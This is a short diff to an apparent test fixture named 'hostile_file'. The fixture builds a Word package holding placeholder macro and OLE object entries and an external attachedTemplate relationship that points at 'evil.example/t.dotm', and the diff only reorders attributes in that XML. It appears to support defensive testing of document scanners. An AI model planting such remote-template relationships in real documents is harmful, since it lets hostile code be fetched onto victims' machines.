@@ -74,8 +74,9 @@ def hostile_file():
             "word/vbaProject.bin": b"macro",
             "word/embeddings/oleObject1.bin": b"object",
             "word/_rels/settings.xml.rels": (
-                '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
-                f'Type="{RELATIONS}/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
+                '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+                f'<Relationship Id="rId1" Type="{RELATIONS}/attachedTemplate" TargetMode="External" '
+                'Target="http://evil.example/t.dotm"/></Relationships>'
             ).encode(),
         },
     )
